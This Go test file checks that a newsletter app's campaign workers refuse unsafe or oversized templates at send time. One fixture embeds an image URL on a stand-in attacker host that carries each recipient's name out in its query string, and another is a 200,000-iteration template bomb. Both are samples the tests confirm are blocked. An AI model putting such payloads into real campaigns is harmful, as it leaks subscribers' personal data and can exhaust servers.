package jobs_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"newsletter/app"
)

// scheduleUnchecked stores and schedules a campaign as an older version
// could have saved it, without the rules of this one.
func (e *campaignEnv) scheduleUnchecked(t *testing.T, bodyHTML string) *app.Campaign {
	t.Helper()
	ctx := context.Background()
	c := &app.Campaign{Name: "Old", Subject: "Old news", Purpose: app.CampaignMarketing, BodyHTML: bodyHTML, Status: app.CampaignDraft}
	if err := e.st.CreateCampaign(ctx, c); err != nil {
		t.Fatal(err)
	}
	now := time.Now().UTC()
	c, err := e.st.TransitionCampaign(ctx, c.ID, app.CampaignTransition{From: []app.CampaignStatus{app.CampaignDraft},
		To: app.CampaignScheduled, SendAt: &now, BumpVersion: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.uc.Queue.EnqueueDispatch(ctx, c.ID, c.Version, now); err != nil {
		t.Fatal(err)
	}
	return c
}

// failures returns the errors recorded on a campaign's failed deliveries.
func (e *campaignEnv) failures(t *testing.T, id int64) []string {
	t.Helper()
	list, err := e.st.FailedDeliveries(context.Background(), id, 0, 1000)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range list {
		out = append(out, f.Error)
	}
	return out
}

// TestCampaignRefusedTemplateSendsNothing: a campaign saved before the
// template rules (a template bomb, a name in an image URL) reaches the
// workers: nothing is rendered or sent, and every delivery fails with the
// reason, for the marketer to see.
func TestCampaignRefusedTemplateSendsNothing(t *testing.T) {
	t.Parallel()
	e := newCampaignEnv(t)
	e.seed(t, 1, 5)
	sink := newSink(t, nil)
	e.startWorker(t, e.runner(t, smtpTransport(t, sink.URL(), nil), fastOptions))
	for body, reason := range map[string]string{
		`{{range 200000}}<p>Lorem ipsum dolor sit amet.</p>{{end}}`:       "{{range 200000}} is not allowed",
		`<p>Hi</p><img src="https://attacker.example/p.gif?n={{.Name}}">`: "{{.Name}} stands in the src attribute of <img>",
	} {
		c := e.scheduleUnchecked(t, body)
		got := e.waitStatus(t, c.ID, app.CampaignFinished, 60*time.Second)
		if got.Failed != 5 || got.Sent != 0 {
			t.Fatalf("%s: counters %+v", body, got.CampaignCounters)
		}
		for _, f := range e.failures(t, c.ID) {
			if !strings.Contains(f, "not sent") || !strings.Contains(f, reason) {
				t.Errorf("%s: delivery error %q", body, f)
			}
		}
	}
	if n := len(sink.Count()); n != 0 {
		t.Fatalf("%d recipients got mail", n)
	}
}

// TestCampaignOverCapAtSendTime: a template within the cap for every name
// the form takes, sent to a recipient whose stored name is longer still:
// that message would pass the cap, so that delivery fails with the reason
// and nothing is sent to that recipient; the others get theirs.
func TestCampaignOverCapAtSendTime(t *testing.T) {
	t.Parallel()
	e := newCampaignEnv(t)
	ctx := context.Background()
	want := e.seed(t, 1, 3)
	long := e.addSubscriber(t, "long@example.com", app.StatusActive, app.PurposeProcessing, app.PurposeMarketing)
	if _, err := e.db.Exec(`UPDATE subscribers SET name = $1 WHERE id = $2`, strings.Repeat("n", 1000), long.ID); err != nil {
		t.Fatal(err)
	}
	sink := newSink(t, nil)
	e.startWorker(t, e.runner(t, smtpTransport(t, sink.URL(), nil), fastOptions))
	c, err := e.uc.Create(ctx, marketer, app.CampaignInput{Name: "Big", Subject: "Big news", Purpose: app.CampaignMarketing,
		BodyHTML: "<p>" + strings.Repeat("{{.Name}} ", 2000) + "</p>"})
	if err != nil {
		t.Fatalf("a template within the cap: %v", err)
	}
	if _, err := e.uc.Schedule(ctx, marketer, c.ID, nil); err != nil {
		t.Fatal(err)
	}
	got := e.waitStatus(t, c.ID, app.CampaignFinished, 60*time.Second)
	if got.Sent != 3 || got.Failed != 1 {
		t.Fatalf("counters %+v", got.CampaignCounters)
	}
	exactlyOnce(t, sink.Count(), want)
	if f := e.failures(t, c.ID); len(f) != 1 || !strings.Contains(f[0], "not sent") || !strings.Contains(f[0], "larger than 1 MB") {
		t.Fatalf("delivery errors %q", f)
	}
}
